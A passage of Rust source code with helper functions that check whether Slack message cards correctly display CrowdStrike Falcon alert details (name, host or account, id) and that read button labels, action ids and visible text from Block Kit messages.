    message["ts"].as_str().unwrap_or("").to_string()
}

/// What a card must show to be the card of an alert: its name, its host (or account for
/// identity alerts) and its id (in the console link).
struct AlertFacts {
    name: String,
    subject: String,
    id: String,
}

impl AlertFacts {
    /// From a Falcon alert object as the Alerts API returns it.
    fn of(alert: &Value) -> Self {
        let text = |v: &Value| v.as_str().unwrap_or("").to_string();
        let name = [&alert["display_name"], &alert["name"]]
            .into_iter()
            .map(text)
            .find(|s| !s.is_empty())
            .unwrap_or_default();
        let subject = [
            &alert["device"]["hostname"],
            &alert["source_account_upn"],
            &alert["user_name"],
        ]
        .into_iter()
        .map(text)
        .find(|s| !s.is_empty())
        .unwrap_or_default();
        AlertFacts {
            name,
            subject,
            id: text(&alert["id"]),
        }
    }

    fn shown_on(&self, card: &Value) -> bool {
        let esc = |s: &str| {
            s.replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace('>', "&gt;")
        };
        let text = message_text(card);
        !self.name.is_empty()
            && !self.id.is_empty()
            && text.contains(&format!("*{}*", esc(&self.name)))
            && text.contains(&format!("`{}`", esc(&self.subject)))
            && text.contains(&self.id)
    }
}

/// The text of the button with this action id.
fn button_label(message: &Value, action_id: &str) -> Option<String> {
    message["blocks"].as_array()?.iter().find_map(|b| {
        b["elements"].as_array()?.iter().find_map(|e| {
            (e["action_id"] == json!(action_id))
                .then(|| e["text"]["text"].as_str().map(str::to_string))
                .flatten()
        })
    })
}

/// Whether a message has a button with this action id.
fn has_action(message: &Value, action_id: &str) -> bool {
    message["blocks"].as_array().is_some_and(|blocks| {
        blocks.iter().any(|b| {
            b["elements"]
                .as_array()
                .is_some_and(|els| els.iter().any(|e| e["action_id"] == json!(action_id)))
                || b["accessory"]["action_id"] == json!(action_id)
        })
    })
}

/// What a person reads: the blocks' text (header, sections, fields, context), else `text`.
fn message_text(message: &Value) -> String {
    let mut out = vec![];
    for b in message["blocks"].as_array().cloned().unwrap_or_default() {
        if let Some(t) = b["text"]["text"].as_str() {
            out.push(t.to_string());
        }
        for f in b["fields"].as_array().cloned().unwrap_or_default() {
            if let Some(t) = f["text"].as_str() {
                out.push(t.to_string());
            }
        }
        for e in b["elements"].as_array().cloned().unwrap_or_default() {
            if let Some(t) = e["text"].as_str() {
                out.push(t.to_string());
            } else if let Some(t) = e["text"]["text"].as_str() {
                out.push(format!("[{t}]"));
            }
        }
    }
    if out.is_empty() {
        message["text"].as_str().unwrap_or("").to_string()
    } else {
        out.join("\n")
    }
}

fn indent(text: &str) -> String {
    text.lines()
        .map(|l| format!("    {l}"))
        .collect::<Vec<_>>()
        .join("\n")
}
